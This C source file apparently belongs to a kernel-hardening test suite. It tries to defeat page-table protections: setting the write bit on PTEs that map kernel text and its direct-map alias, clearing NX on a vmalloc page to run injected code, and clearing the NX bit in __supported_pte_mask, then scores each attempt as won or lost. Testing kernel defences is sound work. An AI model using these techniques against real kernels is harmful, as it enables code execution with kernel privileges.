// SPDX-License-Identifier: GPL-2.0-only
/* Attacks on entries that map kernel text, the direct map and vmalloc space. */
#include "answer.h"
#include "attack.h"
#include "list.h"
#include "objects.h"

/* Set the write bit in the leaf that maps addr, then patch text through it. */
static enum outcome make_writable(uint64_t addr)
{
	struct slot slot;
	enum outcome outcome;
	int err;

	if (kwalk(addr, LEAF, 0, &slot))
		return broken("no page-table entry found");
	if (pte_is_writable(slot.value))
		return broken("the entry is writable already");
	err = kwrite64(slot.slot, pte_make_writable(slot.value));
	if (err)
		return lost("the write bit was refused: %d", err);
	outcome = patch_text_through(addr);
	kwrite64(slot.slot, slot.value);
	return outcome;
}

enum outcome text_pte(void)
{
	return make_writable(text_address());
}

/* The read-only alias of kernel text in the direct map. */
enum outcome direct_map_pmd(void)
{
	struct slot slot;

	if (kwalk(text_address(), LEAF, 0, &slot))
		return broken("no page-table entry found");
	return make_writable(slot.alias);
}

enum outcome vmalloc_nx(void)
{
	struct slot slot;
	uint64_t addr, value;
	int err;

	if (corrupt_command("vmalloc count=1"))
		return broken("no vmalloc area");
	addr = corrupt_answer("address");
	err = kwrite(addr, answer_code, ANSWER_SIZE);
	if (err || kwalk(addr, LEVEL_PTE, 0, &slot) || pte_is_executable(slot.value))
		return broken("no NX page to start with");
	err = kwrite64(slot.slot, pte_make_executable(slot.value));
	if (err)
		return lost("clearing NX was refused: %d", err);
	err = call_answer(addr, &value);
	kwrite64(slot.slot, slot.value);
	if (!is_answer(err, value))
		return lost("call gave %d, value 0x%lx", err, value);
	return won("code written to vmalloc page 0x%lx ran in the kernel and returned 0x%lx",
		   addr, value);
}

/* The same without an entry: what is not in the mask is taken out of what is set. */
enum outcome nx_mask(void)
{
#ifdef __x86_64__
	uint64_t mask = ksymbol("__supported_pte_mask"), old = kread64(mask), addr, value;
	int err;

	err = store_constant(mask, old & ~(1UL << 63));
	if (err)
		return lost("the mask was not to be changed: %d", err);
	err = corrupt_command("vmalloc count=1");
	addr = corrupt_answer("address");
	store_constant(mask, old);
	if (err || kwrite(addr, answer_code, ANSWER_SIZE))
		return broken("no vmalloc area");
	err = call_answer(addr, &value);
	if (!is_answer(err, value))
		return lost("call gave %d, value 0x%lx", err, value);
	return won("code written to vmalloc page 0x%lx ran in the kernel and returned 0x%lx",
		   addr, value);
#else
	return skipped("this kernel has no mask for entries");
#endif
}
